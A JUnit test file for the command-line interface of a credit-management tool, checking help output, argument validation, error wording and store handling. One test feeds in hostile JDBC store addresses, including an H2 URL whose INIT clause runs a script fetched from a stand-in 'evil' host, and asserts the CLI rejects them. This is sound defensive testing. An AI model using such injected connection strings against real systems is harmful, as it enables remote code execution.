package org.creditdesk.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandsTest {
    private static final String[] NO_STORE = {"--store", "/nowhere/at/all/desk"};

    private final Terminal terminal = new Terminal();

    @TempDir
    private Path folder;

    @Test
    void opensTheWindowWhenThereIsNoCommand() {
        assertEquals(
                0, terminal.run("--sample", "--store", folder.resolve("desk").toString(), "--user", "sam"));

        var request = terminal.windows().get(0);
        assertTrue(request.sample());
        assertEquals("sam", request.user());
        assertEquals(folder.resolve("desk").toString(), request.store());
    }

    @Test
    void leavesTheWindowItsOwnStoreWhenNoneIsNamed() {
        assertEquals(0, terminal.run());
        assertNull(terminal.windows().get(0).store());
    }

    @Test
    void doesNotTakeTheWindowsOptionsForACommands() {
        assertEquals(2, terminal.run("--sample", "find", "ana"));
        assertSentence("--sample belongs to the window");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "setup",
                "find",
                "account",
                "compensate",
                "campaign",
                "campaign list",
                "campaign show",
                "campaign create",
                "campaign change",
                "campaign end",
                "campaign reopen",
                "codes",
                "codes generate",
                "codes export",
                "codes status",
                "bulk",
                "bulk compensate",
                "redeem",
                "autopsy",
                "locks",
                "unlock",
                "receipts import",
                "receipts mappings",
                "receipts mappings save",
                "packs",
                "packs set",
                "packs end",
                "reasons",
                "reasons save",
                "incidents",
                "incidents create",
                "incidents change",
                "incidents affected",
                "limits",
                "limits set",
                "limits clear",
                "limits request-days",
                "limits batches-above",
                "limits lock-out",
                "limits signals",
                "signals",
                "signals dismiss",
                "verify",
                "audit"
            })
    void explainsEveryCommand(String command) {
        String[] words = (command + " --help").split(" ");
        assertEquals(0, terminal.run(words));
        assertTrue(terminal.out().contains("credit-desk " + command), terminal.out());
        assertFalse(hasOptionWithoutText(terminal.out()), terminal.out());
        assertEquals(0, terminal.run((command + " --version").split(" ")));
        assertTrue(terminal.out().startsWith("Credit Desk "), terminal.out());
    }

    /** An option or a parameter whose help text is missing stands alone on its line. */
    private static boolean hasOptionWithoutText(String help) {
        List<String> lines = help.lines().toList();
        for (int line = 0; line < lines.size(); line++) {
            boolean option = lines.get(line).matches("( {6}--| {2}-\\w, --| {6}[A-Z]+)\\S*");
            boolean text = line + 1 < lines.size() && lines.get(line + 1).startsWith(" ".repeat(27));
            if (option && !text) {
                return true;
            }
        }
        return false;
    }

    @Test
    void takesGlobalOptionsBeforeAndBehindTheCommand() {
        for (String[] arguments : List.of(
                new String[] {"--json", "--store", NO_STORE[1], "verify"},
                new String[] {"verify", "--json", "--store", NO_STORE[1]},
                new String[] {"--store", NO_STORE[1], "campaign", "create", "Spring", "--json"},
                new String[] {"--store", NO_STORE[1], "--json", "campaign", "create", "Spring"},
                new String[] {"campaign", "--json", "create", "Spring", "--store", NO_STORE[1]})) {
            assertEquals(5, terminal.run(arguments), String.join(" ", arguments));
            assertEquals("STORE_MISSING", terminal.json().get("reason").asText());
            assertSentence("There is no store at /nowhere/at/all/desk.mv.db.");
        }
    }

    @Test
    void namesTheFieldThatIsWrong() {
        for (String credits : List.of("1.5", "0", "-5", "", "1e3", "1,000", "٥", "0x10")) {
            assertEquals(2, terminal.run("compensate", "a@b.example", credits, "--reason", "GOODWILL"), credits);
            assertTrue(terminal.err().contains("“" + credits + "”"), terminal.err());
            assertEquals(2, generate("--count", "10", "--credits", credits), credits);
            assertSentence("--credits: “" + credits + "” is not a whole number above zero.");
        }
        assertEquals(2, terminal.run("compensate", "a@b.example", "9223372036854775808", "--reason", "GOODWILL"));
        assertSentence("CREDITS: “9223372036854775808” is too large, the most is 9,223,372,036,854,775,807.");
        assertEquals(2, generate("--count", "10", "--credits", "5", "--per-code", "2147483648"));
        assertSentence("--per-code: “2147483648” is too large");
        assertEquals(2, generate("--count", "10", "--credits", "5", "--until", "tomorrow"));
        assertSentence("--until: “tomorrow” is not a time");
        assertEquals(2, generate("--count", "10", "--credits", "5", "--zone", "Mars"));
        assertSentence("--zone: “Mars” is not a time zone");
        assertEquals(2, terminal.run("redeem", "X", "--account", "a@b.example", "--request", "1-1-1-1-1"));
        assertSentence("--request: “1-1-1-1-1” is not a request id");
    }

    private int generate(String... more) {
        String[] start = {"codes", "generate", "--campaign", "Spring"};
        return terminal.run(java.util.stream.Stream.of(start, more)
                .flatMap(java.util.Arrays::stream)
                .toArray(String[]::new));
    }

    @Test
    void saysWhatIsMissingOrTooMuch() {
        assertEquals(2, terminal.run("compensate", "a@b.example", "--json"));
        assertSentence("Missing: --reason, CREDITS.");
        assertEquals("WRONG_USE", terminal.json().get("reason").asText());
        assertEquals(2, terminal.run("acount", "a@b.example"));
        assertSentence("“acount” is not a command. Did you mean account?");
        assertEquals(2, terminal.run("account", "a@b.example", "c@d.example"));
        assertSentence("“c@d.example” is one word too many.");
        assertEquals(2, terminal.run("verify", "--jsn"));
        assertSentence("“--jsn” is not an option here.");
        assertEquals(2, terminal.run("bulk"));
        assertSentence("“credit-desk bulk” needs a second word: compensate.");
    }

    @Test
    void asksForNoPasswordWhereNobodyCanAnswer() throws IOException {
        String store = Files.createFile(folder.resolve("desk.mv.db")).toString();

        assertEquals(2, terminal.run("verify", "--store", store));
        assertSentence("It is not known who you are");
        assertEquals(2, terminal.run("verify", "--store", store, "--user", "sam"));
        assertSentence("There is no password");
        assertEquals(2, terminal.run("setup", "--store", folder.resolve("new").toString()));
        assertSentence("There is no password");
        assertFalse(Files.exists(folder.resolve("new.mv.db")));
    }

    @Test
    void takesTheStoreFromTheEnvironmentButTheOptionFirst() {
        terminal.with("CREDITDESK_STORE", "/nowhere/else/desk");

        assertEquals(5, terminal.run("verify"));
        assertSentence("There is no store at /nowhere/else/desk.mv.db.");
        assertEquals(5, terminal.run("verify", NO_STORE[0], NO_STORE[1]));
        assertSentence("There is no store at /nowhere/at/all/desk.mv.db.");
    }

    @Test
    void refusesAddressesThatAreNone() {
        assertEquals(2, terminal.run("verify", "--store", "jdbc:mysql://host/desk"));
        assertEquals(2, terminal.run("verify", "--store", "/tmp/desk;INIT=RUNSCRIPT FROM 'http://evil'"));
        assertEquals(2, terminal.run("verify", "--store", "jdbc:postgresql://host/desk?socketFactory=evil"));
    }

    @Test
    void reportsAnAnswerThatNobodyCouldRead() {
        var err = new StringWriter();
        var full = new PrintWriter(new OutputStream() {
            @Override
            public void write(int octet) throws IOException {
                throw new IOException("no space left on device");
            }
        });
        var surroundings = new Surroundings(full, new PrintWriter(err), Map.of(), null, Shutdown.NEVER);

        assertEquals(1, new Commands(surroundings, request -> 0).run("--version"));
        assertTrue(err.toString().contains("could not be written"), err.toString());
    }

    @Test
    void keepsTheTraceOfASurpriseToTheLog() {
        var err = new StringWriter();
        var surroundings = new Surroundings(
                new PrintWriter(new StringWriter()), new PrintWriter(err), Map.of(), null, Shutdown.NEVER);

        assertEquals(
                1,
                new Commands(surroundings, request -> {
                            throw new IllegalStateException("inner words");
                        })
                        .run());
        assertFalse(err.toString().contains("inner words"), err.toString());
        assertEquals(1, err.toString().lines().count());
        assertTrue(err.toString().contains(".log"), err.toString());
    }

    private void assertSentence(String beginning) {
        assertTrue(terminal.err().startsWith(beginning), terminal.err());
        assertEquals(1, terminal.err().lines().count(), terminal.err());
    }
}
